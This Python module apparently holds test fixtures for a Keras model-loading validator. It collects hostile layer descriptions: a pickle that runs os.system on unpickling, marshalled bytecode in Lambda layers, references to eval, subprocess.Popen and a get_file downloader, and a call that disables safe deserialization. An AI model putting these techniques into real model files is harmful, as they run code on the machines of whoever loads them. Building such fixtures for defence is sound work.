"""What attackers put where a part of a network is described: code, paths to code, and things of another kind."""

from __future__ import annotations

import base64
import marshal
import pickle
from typing import Any


class Command:
    """Runs a command when it is unpickled."""

    def __reduce__(self) -> Any:
        import os

        return os.system, ("echo attacked",)


def attack(x: Any) -> Any:
    raise SystemExit("attacked")


BYTECODE = base64.b64encode(marshal.dumps(attack.__code__)).decode()
PICKLE = base64.b64encode(pickle.dumps(Command())).decode()


def keras_object(module: str | None, name: str, config: Any, registered: str | None = None) -> dict[str, Any]:
    """Return a description as Keras 3 writes it."""
    return {"module": module, "class_name": name, "config": config, "registered_name": registered}


LAMBDA = keras_object(
    "keras.layers",
    "Lambda",
    {
        "name": "lambda",
        "function": {
            "class_name": "__lambda__",
            "config": {"code": BYTECODE, "defaults": None, "closure": None},
        },
        "arguments": {},
    },
)
PAYLOADS: dict[str, Any] = {
    "a Lambda as Keras 3 writes it": LAMBDA,
    "a Lambda as Keras 2 writes it": {
        "class_name": "Lambda",
        "config": {
            "name": "l",
            "function": [BYTECODE, None, None],
            "function_type": "lambda",
            "module": "__main__",
        },
    },
    "a Lambda that names a function": {
        "class_name": "Lambda",
        "config": {"name": "l", "function": "system", "function_type": "function", "module": "os"},
    },
    "a lambda alone": {"class_name": "__lambda__", "config": {"code": BYTECODE}},
    "a function by its module": keras_object("os", "function", "system", "system"),
    "a function of builtins": keras_object("builtins", "function", "eval", "eval"),
    "a class by its module": keras_object("subprocess", "Popen", {"args": ["echo", "attacked"]}),
    "a module to import": keras_object("antigravity", "function", "geohash"),
    "a path of dots": {"class_name": "os.system", "config": {"command": "echo attacked"}},
    "a path of dunders": {"class_name": "__builtins__.eval", "config": {}},
    "a class method": {"class_name": "Dense.__init__.__globals__", "config": {}},
    "a dunder": {"class_name": "__class__", "config": {}},
    "a downloader": keras_object("keras.utils", "function", "get_file"),
    "a downloader with arguments": keras_object(
        "keras.utils", "get_file", {"fname": "/tmp/attacked", "origin": "http://127.0.0.1:9/attack"}
    ),
    "safe mode off": keras_object("keras.config", "enable_unsafe_deserialization", {}),
    "safe mode off as a function": keras_object("keras.config", "function", "enable_unsafe_deserialization"),
    "a saved model": keras_object(
        "keras.layers", "TFSMLayer", {"filepath": "/tmp/attack", "call_endpoint": "serve"}
    ),
    "a wrapped module of torch": keras_object("keras.layers", "TorchModuleWrapper", {"module": PICKLE}),
    "a wrapped function of JAX": keras_object(
        "keras.layers", "JaxLayer", {"call_fn": LAMBDA["config"]["function"]}
    ),
    "numpy's loader": keras_object("numpy", "function", "load"),
    "a pickle": {"class_name": "__numpy__", "config": {"value": PICKLE, "dtype": "object"}},
    "a tensor of objects": {"class_name": "__tensor__", "config": {"value": [PICKLE], "dtype": "object"}},
    "bytes": {"class_name": "__bytes__", "config": {"value": PICKLE}},
    "an ellipsis": {"class_name": "__ellipsis__", "config": {}},
    "a slice": {"class_name": "__slice__", "config": {"start": "attack", "stop": None, "step": None}},
    "a string that is code": "__import__('os').system('echo attacked')",
    "a lambda in words": "lambda x: x",
    "a module's function in words": "os.system",
    "a list of descriptions": [LAMBDA],
    "a description in a description": {"class_name": LAMBDA, "config": {}},
    "a name of another program": "tensorflow>Attack",
    "a registered name of nobody": keras_object(None, "Attack", {}, "Custom>Attack"),
}
